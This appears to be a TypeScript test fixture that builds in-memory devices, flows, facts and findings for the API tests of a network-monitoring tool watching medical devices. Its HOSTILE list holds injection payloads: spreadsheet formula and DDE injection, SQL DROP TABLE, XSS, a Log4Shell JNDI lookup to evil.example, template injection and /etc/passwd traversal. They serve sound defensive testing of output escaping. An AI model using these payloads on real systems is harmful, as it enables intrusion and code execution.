/** A small house of devices, flows, facts and findings in memory, for the tests of the API. Some of it is hostile. */

import type { Searchable } from '#base/query.ts';
import { matches } from '#base/query-match.ts';
import type { CaptureRecord } from '#model/capture-record.ts';
import type { Change } from '#model/change.ts';
import type { Correction } from '#model/correction.ts';
import { type Claim, type Device, NOTHING_KNOWN } from '#model/device.ts';
import type { Fact } from '#model/fact.ts';
import type { Finding } from '#model/finding.ts';
import { DEVICES, FACTS, FINDINGS, FLOWS } from '#model/search.ts';
import type { StoredFlow } from '#model/stored-flow.ts';
import { CorrectionRefused } from './corrections.ts';
import { type Page, type PageRequest, UnknownCursor } from './page.ts';
import type { LiveEvent, Services } from './services.ts';
import { configurationsInMemory } from './test-configurations.ts';
import { drillsInMemory, incidentsOver } from './test-incidents.ts';
import { lifecycleOver } from './test-lifecycle.ts';
import { segmentationInMemory } from './test-segmentation.ts';
import { triageOver } from './test-triage.ts';
import { UploadRefused } from './uploads.ts';

/** Names that try to break out of whatever shows or keeps them. */
export const HOSTILE: readonly string[] = [
  '=HYPERLINK("http://evil.example","click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  "Robert'); DROP TABLE devices;--",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'a"b,c\r\nd',
  '$' + '{jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../etc/passwd',
  '|severity|10|=x\\',
  '\u202egnp.exe',
  '_x0041_',
  '＝1+1',
];

const claim = (value: string): Claim => ({
  value,
  confidence: 0.9,
  basis: [{ key: 'dhcp.vendorClass', value, capture: 'a.pcap', frame: 1, rule: 'dhcp/vendor' }],
  by: 'evidence',
});

export function device(number: number, name: string, more: Partial<Device['identity']> = {}): Device {
  const ip = `10.2.0.${number}`;
  const mac = `00:1b:21:00:00:${number.toString(16).padStart(2, '0')}`;
  const firstSeen = '2026-11-20T08:00:00.000000Z';
  return {
    id: `d${number}`,
    macs: [mac],
    ips: [ip],
    addresses: [{ ip, mac, from: firstSeen, until: null }],
    names: [name],
    firstSeen,
    lastSeen: `2026-11-24T08:00:${String(number).padStart(2, '0')}.000000Z`,
    roles: ['dicom:scp'],
    identity: { ...NOTHING_KNOWN, ...more },
  };
}

export function finding(number: number, more: Partial<Finding> = {}): Finding {
  return {
    id: `f${number}`,
    kind: 'exploit.smb.eternalblue',
    title: 'SMB was exploited',
    severity: 'critical',
    confidence: 0.99,
    actors: [{ device: 'd1', ip: '10.2.0.1' }],
    targets: [{ device: 'd2', ip: '10.2.0.2' }],
    start: '2026-11-24T08:00:00.000000Z',
    end: '2026-11-24T08:00:05.000000Z',
    outcome: 'succeeded',
    attack: [{ tactic: 'lateral-movement', technique: 'T1021.002' }],
    evidence: [{ capture: 'a.pcap', frame: 812, why: 'the overflow' }],
    action: 'Take the target off the network.',
    ...more,
  };
}

export function flow(number: number, more: Partial<StoredFlow> = {}): StoredFlow {
  return {
    id: `w${number}`,
    part: 0,
    start: `2026-11-24T08:${String(number % 60).padStart(2, '0')}:00.000000Z`,
    end: `2026-11-24T08:${String(number % 60).padStart(2, '0')}:30.000000Z`,
    network: 'ipv4',
    transport: 'tcp',
    client: { ip: '10.2.0.1', port: 49_152 + number, mac: '00:1b:21:00:00:01' },
    server: { ip: '10.2.0.2', port: 104 },
    vlan: [10],
    protocol: 'dicom',
    over: ['tls'],
    basis: 'content',
    clientPackets: 5,
    clientBytes: 777,
    serverPackets: 4,
    serverBytes: 396,
    state: 'established',
    missed: { bytes: 0 },
    tls: { version: 'TLSv1.3', sni: 'pacs.example' },
    users: ['o.perator'],
    capture: 'a.pcap',
    firstFrame: 1,
    ...more,
  };
}

export function change(id: number, more: Partial<Change> = {}): Change {
  return {
    id,
    time: '2026-11-24T08:00:00.000000Z',
    kind: 'device.new',
    device: 'd1',
    summary: 'pump-1 was seen for the first time',
    field: 'id',
    before: null,
    after: 'd1',
    ...more,
  };
}

const fact = (value: string): Fact => ({
  time: '2026-11-24T08:00:00.000000Z',
  subject: { ip: '10.2.0.1', port: 104 },
  key: 'dicom.implementationVersionName',
  value,
  source: { capture: 'a.pcap', frame: 12, protocol: 'dicom', field: 'user information 55H' },
});

export interface MemoryServices extends Services {
  readonly devices_: Device[];
  readonly flows_: StoredFlow[];
  readonly changes_: Change[];
  readonly findings_: Finding[];
  tell(event: LiveEvent): void;
  readonly listeners: () => number;
}

function page<Thing>(
  things: readonly Thing[],
  searchable: Searchable<Thing>,
  { query, limit, cursor }: PageRequest,
): Page<Thing> {
  const start = Number(cursor ?? 0);
  if (!Number.isInteger(start)) throw new UnknownCursor();
  const found = things.filter((thing) => matches(query, thing, searchable));
  const next = start + limit < found.length ? String(start + limit) : null;
  return { items: found.slice(start, start + limit), next, total: found.length };
}

const CAPTURE: CaptureRecord = {
  hash: 'ab',
  path: '/captures/a.pcap',
  packets: 10,
  bytes: 1000,
  start: null,
  end: null,
  linkType: 'ethernet',
  readAt: '2026-11-24T08:00:00.000Z',
  state: 'done',
  problems: [{ offset: 24, message: 'cut short' }],
};

/** Three plain devices, and one for every hostile name. */
export function memoryServices(): MemoryServices {
  const devices_ = [
    device(1, 'pump-1', { category: claim('infusion-pump'), manufacturer: claim('Becton Dickinson') }),
    device(2, 'pacs', { category: claim('server'), os: claim('Windows Server 2019'), serial: claim('S1') }),
    device(3, 'unknown-3'),
    ...HOSTILE.map((name, index) => device(10 + index, name, { model: claim(name) })),
  ];
  const flows_ = Array.from({ length: 3 }, (_, number) => flow(number));
  const facts = ['OFFIS_DCMTK_367', ...HOSTILE].map(fact);
  const findings_ = [finding(1), finding(2, { kind: 'device.new', severity: 'info', actors: [], attack: [] })];
  const changes_ = [
    change(1),
    change(2, { kind: 'finding.new', field: 'exploit.smb.eternalblue', after: 'f1' }),
    change(3, { device: 'd2' }),
  ];
  const triage = triageOver(findings_);
  const listeners = new Set<(event: LiveEvent) => void>();
  return {
    devices_,
    flows_,
    changes_,
    findings_,
    tell: (event) => {
      for (const listener of listeners) listener(event);
    },
    listeners: () => listeners.size,
    devices: {
      list: (request) => page(devices_, DEVICES, request),
      counts: () => [{ value: 'infusion-pump', devices: devices_.length }],
      get: (id) => devices_.find((one) => one.id === id) ?? null,
      byAddress: (address) => devices_.find(({ ips }) => ips.includes(address)) ?? null,
      facts: () => facts,
    },
    flows: flowsOf(flows_),
    facts: { list: (request) => page(facts, FACTS, request) },
    findings: {
      list: (request) => page(findings_, FINDINGS, request),
      get: (id) => findings_.find((one) => one.id === id) ?? null,
    },
    triage,
    incidents: incidentsOver(findings_, triage),
    drills: drillsInMemory(),
    segmentation: segmentationInMemory(),
    configurations: configurationsInMemory(),
    voices: { places: {}, hear: async () => null },
    lifecycle: lifecycleOver(devices_, (things, request) => page(things, DEVICES, request)),
    changes: {
      list: ({ after, device: of, kinds, limit }) =>
        changes_
          .filter(
            ({ id, kind, device: one }) =>
              id > after && (of === undefined || of === one) && (!kinds?.length || kinds.includes(kind)),
          )
          .slice(0, limit),
    },
    corrections: correctionsOf(devices_),
    alarmPaths: () => [],
    baseline: () => ({ state: 'learning', day: 3, of: 7, group: 'infusion pump', groupSize: 12 }),
    sensors: () => [
      {
        name: 'core',
        kind: 'live',
        state: 'running',
        packets: 10,
        bytes: 1000,
        dropped: 0,
        restarts: 0,
        lost: 0,
        lastPacket: null,
        problem: null,
      },
    ],
    captures: () => [CAPTURE],
    system: () => ({
      startedAt: '2026-11-24T08:00:00.000Z',
      data: '/var/lib/wardline',
      freeBytes: 1e9,
      flowDays: 90,
      rollupDays: 730,
      lastBackup: null,
    }),
    uploads: {
      bytesLimit: 1000,
      async take({ name, body }) {
        let bytes = 0;
        for await (const chunk of body) bytes += chunk.length;
        if (bytes > 1000) throw new UploadRefused('too-large', 'at most 1000 bytes');
        return { capture: { ...CAPTURE, path: `upload://${name}`, state: 'reading' }, known: bytes === 3 };
      },
    },
    health: async () => [{ component: 'store', ok: true, message: 'well' }],
    listen: (listener) => {
      listeners.add(listener);
      return () => void listeners.delete(listener);
    },
    metrics: () => [
      {
        name: 'wardline_packets_total',
        help: 'Packets.',
        type: 'counter',
        values: [{ labels: { sensor: 'a"b\\c\n' }, value: 10 }],
      },
    ],
  };
}

/** Keeps what is said, and does nothing with it. */
function correctionsOf(devices: readonly Device[]): Services['corrections'] {
  const steps: Correction[] = [];
  return {
    list: (device) => steps.filter((step) => step.device === device),
    next: () =>
      devices.slice(0, 1).map(({ id, names }) => ({
        device: id,
        name: names[0] ?? id,
        category: null,
        confidence: 0,
        alike: 2,
        why: 'Its kind is not known.',
      })),
    async correct(device, asked, by) {
      if (!devices.some(({ id }) => id === device))
        throw new CorrectionRefused('missing', `There is no device ${device}.`);
      if (asked.kind === 'merge') throw new CorrectionRefused('refused', 'Both are the same device already.');
      const value = 'value' in asked ? asked.value : '';
      const step: Correction = {
        id: steps.length + 1,
        time: '2026-11-24T08:00:00.000000Z',
        by,
        device,
        reason: asked.reason ?? null,
        step: { kind: 'name', value },
        undone: null,
      };
      steps.push(step);
      return step;
    },
    async undo(device, number, by) {
      const at = steps.findIndex((step) => step.id === number && step.device === device);
      const step = steps[at];
      if (!step) throw new CorrectionRefused('missing', `There is no step ${number} of this device.`);
      const back = { ...step, undone: { by, time: step.time } };
      steps[at] = back;
      return back;
    },
  };
}

function flowsOf(flows: readonly StoredFlow[]): Services['flows'] {
  return {
    list: async (request) => page<StoredFlow>(flows, FLOWS, request),
    peers: async () => [
      {
        address: '10.2.0.2',
        device: 'd2',
        asClient: true,
        protocol: 'dicom',
        transport: 'tcp',
        port: 104,
        flows: 3,
        sent: 1,
        received: 2,
        firstSeen: '2026-11-24T08:00:00.000000Z',
        lastSeen: '2026-11-24T08:02:30.000000Z',
      },
    ],
    timeline: async () => [
      { time: '2026-11-24T08:00:00.000000Z', protocol: 'dicom', flows: 3, peers: 1, sent: 1, received: 2 },
    ],
    top: async () => [{ client: '10.2.0.1', server: '10.2.0.2', protocol: 'dicom', port: 104, flows: 3, bytes: 3 }],
    protocols: async () => [{ protocol: 'dicom', flows: 3, bytes: 3 }],
    between: async (_, ends) => [
      {
        from: { end: ends.get('10.2.0.1') ?? null, address: null },
        to: { end: ends.get('10.2.0.2') ?? null, address: null },
        flows: 3,
        bytes: 3,
        protocols: ['dicom'],
      },
      {
        from: { end: ends.get('10.2.0.1') ?? null, address: null },
        to: { end: null, address: null },
        flows: 1,
        bytes: 1,
        protocols: ['tls'],
      },
      {
        from: { end: ends.get('10.2.0.1') ?? null, address: null },
        to: { end: null, address: '10.9.0.9' },
        flows: 1,
        bytes: 1,
        protocols: [],
      },
    ],
    traffic: async () => [{ time: '2026-11-24T08:00:00.000000Z', flows: 3, bytes: 3 }],
    extent: () => ({ from: '2026-11-24T08:00:00.000000Z', to: '2026-11-24T08:02:30.000000Z' }),
    named: async () => [],
  };
}
